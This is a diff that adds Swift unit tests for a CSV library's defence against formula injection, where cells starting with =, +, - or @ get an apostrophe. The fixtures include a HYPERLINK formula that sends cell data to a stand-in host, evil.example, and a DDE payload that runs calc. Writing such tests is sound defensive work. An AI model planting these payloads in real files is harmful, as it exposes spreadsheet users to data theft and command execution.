@@ -74,6 +74,52 @@ final class CSVTests: XCTestCase {
         }
     }
 
+    // MARK: Formulas
+
+    /// The cells as they stand in the file, marks included.
+    private func rawCells(_ data: Data, separator: Character = ";") throws -> [[String]] {
+        let literal = CSVDialect(separator: separator, lineEnding: .crlf, byteOrderMark: true, neutralizesFormulas: false)
+        return try CSV.read(data, dialect: literal).map(\.cells)
+    }
+
+    func testCellsThatStartLikeAFormulaAreWrittenWithAnApostropheAndReadBackWithout() throws {
+        let formulas = ["=HYPERLINK(\"http://evil.example/?d=\"&A2;\"x\")", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                        "\t=1", "\r=1", "=", "-", "+"]
+        let data = CSV.write([formulas])
+        XCTAssertEqual(try rawCells(data)[0], formulas.map { "'" + $0 }, "every one gets the mark")
+        XCTAssertEqual(try CSV.read(data).map(\.cells), [formulas], "and reading takes it away again")
+        XCTAssertTrue(text(data).hasPrefix("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2;\"\"x\"\")\";'+SUM(1+1)"), text(data))
+    }
+
+    func testPlainNumbersAndOrdinaryTextStayAsTheyAre() throws {
+        let cells = ["-12", "+3", "-1,5", "2.75", "Kurs = Spaß", "E-Mail: a@b.de", "'quoted'", "'", "0521 123", ""]
+        XCTAssertEqual(try rawCells(CSV.write([cells]))[0], cells)
+        XCTAssertEqual(try CSV.read(CSV.write([cells])).map(\.cells), [cells])
+    }
+
+    func testTextThatAlreadyStartsWithTheMarkRoundTripsExactly() throws {
+        // The rule looks past leading apostrophes, so "'=x" (typed as a title) is written with one
+        // apostrophe more and reads back as it was, not as "=x".
+        let cells = ["'=x", "''+y", "'-2+3", "'@z", "'-12"]
+        XCTAssertEqual(try rawCells(CSV.write([cells]))[0], ["''=x", "'''+y", "''-2+3", "''@z", "'-12"])
+        XCTAssertEqual(try CSV.read(CSV.write([cells])).map(\.cells), [cells])
+        // A file from elsewhere: the mark before a formula goes, other apostrophes stay.
+        XCTAssertEqual(try self.cells("'=1+1;'Text;'-12\r\n"), [["=1+1", "'Text", "'-12"]])
+        for text in ["=a", "'=a", "''=a", "-", "'-", "-5", "'-5", "x", "'x", ""] {
+            XCTAssertEqual(CSVFormula.restored(CSVFormula.neutralized(text)), text)
+        }
+    }
+
+    func testTheReportDialectSeparatesByCommaWithoutMarkAndNeutralizesToo() throws {
+        let data = CSV.write([["district", "name"], ["nord", "Nord, Süd"], ["ost", "=1+1"]], dialect: .rfc4180)
+        XCTAssertEqual(String(decoding: data, as: UTF8.self), "district,name\r\nnord,\"Nord, Süd\"\r\nost,'=1+1\r\n")
+        XCTAssertEqual(try CSV.read(data, dialect: .rfc4180).map(\.cells), [["district", "name"], ["nord", "Nord, Süd"], ["ost", "=1+1"]])
+    }
+
+    func testLeadingAndTrailingSpacesAreQuotedSoSpreadsheetsKeepThem() {
+        XCTAssertEqual(text(CSV.write([[" Leerzeichen ", "a b"]])), "\" Leerzeichen \";a b\r\n")
+    }
+
     func testNameBasedIDsAreVersion5UUIDs() {
         // The RFC 4122 example namespace for DNS names; the expected value is Python's uuid.uuid5(NAMESPACE_DNS, "python.org").
         XCTAssertEqual(NameBasedID.uuid("python.org", namespace: "6ba7b810-9dad-11d1-80b4-00c04fd430c8"),
